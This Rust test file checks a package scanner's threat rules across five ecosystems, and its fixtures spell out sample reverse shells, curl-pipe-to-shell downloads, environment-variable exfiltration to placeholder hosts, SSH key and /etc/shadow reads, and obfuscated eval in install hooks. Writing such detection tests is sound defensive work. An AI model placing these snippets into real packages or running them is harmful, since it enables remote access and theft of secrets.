//! Every threat rule, in every ecosystem's own language and install hook:
//! each package fires its rule with evidence in the right file, and the
//! honest twins (a minified bundle, a comment that mentions /etc/passwd in
//! an install script) raise no threat.

use std::path::Path;

use paddock_proto::v1::{FindingCategory, PackageRef, Severity};
use paddock_static::{analyze_tree, StaticConfig};

#[derive(Clone, Copy, Debug, PartialEq)]
enum Eco {
    Npm,
    Pypi,
    Gem,
    Composer,
    Crate,
}

const ALL: [Eco; 5] = [Eco::Npm, Eco::Pypi, Eco::Gem, Eco::Composer, Eco::Crate];

/// A package whose install hook runs `install` and whose library holds `lib`.
fn package(eco: Eco, install: &str, lib: &str) -> Vec<(String, String)> {
    match eco {
        Eco::Npm => vec![
            (
                "package/package.json".into(),
                r#"{"name":"m","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#
                    .into(),
            ),
            ("package/install.js".into(), install.into()),
            ("package/index.js".into(), lib.into()),
        ],
        Eco::Pypi => vec![
            ("m-1.0/setup.py".into(), install.into()),
            ("m-1.0/m/__init__.py".into(), lib.into()),
        ],
        Eco::Gem => vec![
            ("ext/extconf.rb".into(), install.into()),
            ("lib/m.rb".into(), lib.into()),
        ],
        Eco::Composer => vec![
            (
                "v-m/composer.json".into(),
                r#"{"name":"v/m","scripts":{"post-install-cmd":["php hook.php"]}}"#.into(),
            ),
            ("v-m/hook.php".into(), format!("<?php\n{install}")),
            ("v-m/src/M.php".into(), format!("<?php\n{lib}")),
        ],
        Eco::Crate => vec![
            (
                "m-1.0.0/Cargo.toml".into(),
                "[package]\nname = \"m\"\nversion = \"1.0.0\"\n".into(),
            ),
            ("m-1.0.0/build.rs".into(), install.into()),
            ("m-1.0.0/src/lib.rs".into(), lib.into()),
        ],
    }
}

/// (rule, snippet for the library file; or for the install file when the
/// rule is about install time) per ecosystem.
fn snippet(rule: &str, eco: Eco) -> Option<&'static str> {
    Some(match (rule, eco) {
        ("threat.exec-decoded-base64", Eco::Npm) => "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
        ("threat.exec-decoded-base64", Eco::Pypi) => "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        ("threat.exec-decoded-base64", Eco::Gem) => "require 'base64'\neval(Base64.decode64('cHV0cyAx'))\n",
        ("threat.exec-decoded-base64", Eco::Composer) => "eval(base64_decode('ZWNobyAxOw=='));\n",
        ("threat.exec-decoded-base64", Eco::Crate) => {
            "pub fn run(p: &str) { let cmd = base64::decode(p).unwrap(); std::process::Command::new(\"sh\").arg(String::from_utf8(cmd).unwrap()).status().ok(); }\n"
        }
        ("threat.download-and-execute", Eco::Npm) => "const { execSync } = require('child_process');\nexecSync('curl -fsSL http://192.0.2.1/p.sh | sh');\n",
        ("threat.download-and-execute", Eco::Pypi) => "import os\nos.system('curl -fsSL http://192.0.2.1/p.sh | bash')\n",
        ("threat.download-and-execute", Eco::Gem) => "system('wget -qO- http://192.0.2.1/p.sh | sh')\n",
        ("threat.download-and-execute", Eco::Composer) => "shell_exec('curl -s http://192.0.2.1/p.sh | sh');\n",
        ("threat.download-and-execute", Eco::Crate) => {
            "pub fn go() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://192.0.2.1/p.sh | sh\").status().ok(); }\n"
        }
        ("threat.environment-exfiltration", Eco::Npm) => {
            "const https = require('https');\nconst req = https.request({ host: 'collect.invalid', method: 'POST' });\nreq.end(JSON.stringify(process.env));\n"
        }
        ("threat.environment-exfiltration", Eco::Pypi) => {
            "import os, urllib.request\nurllib.request.urlopen('http://collect.invalid/', data=str(dict(os.environ)).encode())\n"
        }
        ("threat.environment-exfiltration", Eco::Gem) => "require 'net/http'\nNet::HTTP.post(URI('http://collect.invalid/'), ENV.to_h.to_s)\n",
        ("threat.environment-exfiltration", Eco::Composer) => {
            "$ch = curl_init('http://collect.invalid/?e=' . urlencode(json_encode(getenv())));\ncurl_exec($ch);\n"
        }
        ("threat.environment-exfiltration", Eco::Crate) => {
            "fn main() { let env: Vec<_> = std::env::vars().collect(); let _ = std::net::TcpStream::connect(\"192.0.2.1:80\").map(|s| (s, env)); }\n"
        }
        ("threat.obfuscated-eval", Eco::Npm) => "var _0x1a2b=['log'],_0x1a2c=1,_0x1a2d=2,_0x1a2e=3,_0x1a2f=4,_0x1a30=5,_0x1a31=6,_0x1a32=7,_0x1a33=8,_0x1a34=9;\neval(_0x1a2b[0]);\n",
        ("threat.obfuscated-eval", Eco::Pypi) => "_0x1a2b=1;_0x1a2c=2;_0x1a2d=3;_0x1a2e=4;_0x1a2f=5;_0x1a30=6;_0x1a31=7;_0x1a32=8;_0x1a33=9;_0x1a34=10\nexec(str(_0x1a2b))\n",
        ("threat.obfuscated-eval", Eco::Gem) => "_0x1a2b=1;_0x1a2c=2;_0x1a2d=3;_0x1a2e=4;_0x1a2f=5;_0x1a30=6;_0x1a31=7;_0x1a32=8;_0x1a33=9;_0x1a34=10\neval(_0x1a2b.to_s)\n",
        ("threat.obfuscated-eval", Eco::Composer) => "eval(\"\\x65\\x63\\x68\\x6f\\x20\\x31\\x3b\");\n$a = \"\\x61\\x62\\x63\\x64\";\n$b = \"\\x61\\x62\\x63\\x64\";\n$c = \"\\x61\\x62\\x63\\x64\";\n$d = \"\\x61\\x62\\x63\\x64\";\n",
        // Rust cannot evaluate code at run time.
        ("threat.obfuscated-eval", Eco::Crate) => return None,
        ("threat.reverse-shell", Eco::Npm) => "require('child_process').exec('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1');\nconst { exec } = require('child_process');\n",
        ("threat.reverse-shell", Eco::Pypi) => "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')\n",
        ("threat.reverse-shell", Eco::Gem) => "system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')\n",
        ("threat.reverse-shell", Eco::Composer) => "shell_exec('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1');\n",
        ("threat.reverse-shell", Eco::Crate) => "pub fn s() { std::process::Command::new(\"bash\").args([\"-c\", \"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\"]).status().ok(); }\n",
        ("threat.install-sensitive-file-read", Eco::Npm) => "const fs = require('fs');\nconst key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n",
        ("threat.install-sensitive-file-read", Eco::Pypi) => "key = open('/root/.ssh/id_rsa').read()\n",
        ("threat.install-sensitive-file-read", Eco::Gem) => "key = File.read('/etc/shadow')\n",
        ("threat.install-sensitive-file-read", Eco::Composer) => "$k = file_get_contents(getenv('HOME') . '/.aws/credentials');\n",
        ("threat.install-sensitive-file-read", Eco::Crate) => "fn main() { let _ = std::fs::read_to_string(\"/root/.ssh/id_rsa\"); }\n",
        ("threat.install-network", Eco::Npm) => "require('https').get('https://collect.invalid/ping');\n",
        ("threat.install-network", Eco::Pypi) => "import urllib.request\nurllib.request.urlopen('http://collect.invalid/ping')\n",
        ("threat.install-network", Eco::Gem) => "require 'net/http'\nNet::HTTP.get(URI('http://collect.invalid/ping'))\n",
        ("threat.install-network", Eco::Composer) => "$ch = curl_init('http://collect.invalid/ping');\ncurl_exec($ch);\n",
        ("threat.install-network", Eco::Crate) => "fn main() { let _ = std::net::TcpStream::connect(\"192.0.2.1:80\"); }\n",
        _ => return None,
    })
}

fn analyse(files: &[(String, String)]) -> Vec<paddock_proto::v1::Finding> {
    let dir = tempfile::tempdir().unwrap();
    for (path, body) in files {
        let p = dir.path().join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    }
    analyze_tree(
        Path::new(dir.path()),
        PackageRef::default(),
        None,
        &StaticConfig::default(),
    )
    .findings
}

const NEUTRAL: [(Eco, &str); 5] = [
    (Eco::Npm, "module.exports = 1;\n"),
    (Eco::Pypi, "VERSION = '1.0'\n"),
    (Eco::Gem, "VERSION = '1.0'\n"),
    (Eco::Composer, "$version = '1.0';\n"),
    (Eco::Crate, "pub const VERSION: &str = \"1.0\";\n"),
];

fn neutral(eco: Eco) -> &'static str {
    NEUTRAL.iter().find(|(e, _)| *e == eco).unwrap().1
}

#[test]
fn every_threat_fires_in_every_ecosystem_with_evidence() {
    let rules = [
        "threat.exec-decoded-base64",
        "threat.download-and-execute",
        "threat.environment-exfiltration",
        "threat.obfuscated-eval",
        "threat.reverse-shell",
        "threat.install-sensitive-file-read",
        "threat.install-network",
    ];
    let mut checked = 0;
    for rule in rules {
        for eco in ALL {
            let Some(code) = snippet(rule, eco) else {
                continue;
            };
            // Install-time rules, and exfiltration (which matters most
            // there), are placed in the install hook.
            let install_time =
                rule.starts_with("threat.install-") || rule == "threat.environment-exfiltration";
            let files = if install_time {
                package(eco, code, neutral(eco))
            } else {
                package(eco, neutral(eco), code)
            };
            let findings = analyse(&files);
            let hit = findings
                .iter()
                .find(|f| f.rule_id == rule)
                .unwrap_or_else(|| {
                    panic!(
                        "{rule} did not fire for {eco:?}; got {:?}",
                        findings.iter().map(|f| &f.rule_id).collect::<Vec<_>>()
                    )
                });
            let expected_file = &files[if install_time {
                usize::from(eco == Eco::Npm || eco == Eco::Composer || eco == Eco::Crate)
            } else {
                files.len() - 1
            }]
            .0;
            assert!(
                hit.evidence.iter().all(|e| &e.file == expected_file),
                "{rule} {eco:?}: evidence {:?} not in {expected_file}",
                hit.evidence
            );
            assert!(
                hit.evidence
                    .iter()
                    .any(|e| e.line > 0 && !e.snippet.is_empty()),
                "{rule} {eco:?}: {:?}",
                hit.evidence
            );
            checked += 1;
        }
    }
    assert_eq!(checked, 34);
}

#[test]
fn honest_twins_raise_no_threat() {
    // A minified but honest bundle, in the library.
    let bundle = format!("!function(e,t){{\"object\"==typeof exports?module.exports=t():e.lib=t()}}(this,function(){{{}return{{pad:function(s,n){{return String(s).padStart(n)}}}}}});", "var a=1,b=2,c=3;".repeat(400));
    // An install script that only mentions credential files in a comment,
    // and one that reads its own configuration from the environment.
    for eco in ALL {
        let install = match eco {
            Eco::Npm => "// never reads /etc/passwd or ~/.ssh/id_rsa\nconsole.log('installed', process.env.npm_package_version);\n",
            Eco::Pypi => "# never reads /etc/passwd\nimport os\nfrom setuptools import setup\nsetup(name='m', version=os.environ.get('M_VERSION', '1.0'))\n",
            Eco::Gem => "# never reads /etc/passwd\nrequire 'mkmf'\ncreate_makefile('m')\n",
            Eco::Composer => "// never reads /etc/passwd\necho 'installed';\n",
            Eco::Crate => "// never reads /etc/passwd\nfn main() { println!(\"cargo:rerun-if-env-changed=M_FEATURE\"); let _ = std::env::var(\"M_FEATURE\"); }\n",
        };
        let lib = if eco == Eco::Npm {
            bundle.as_str()
        } else {
            neutral(eco)
        };
        for f in analyse(&package(eco, install, lib)) {
            let threat = f.category == FindingCategory::Threat as i32
                && f.severity >= Severity::Medium as i32;
            assert!(!threat, "{eco:?}: {} {:?}", f.rule_id, f.evidence);
        }
    }
}
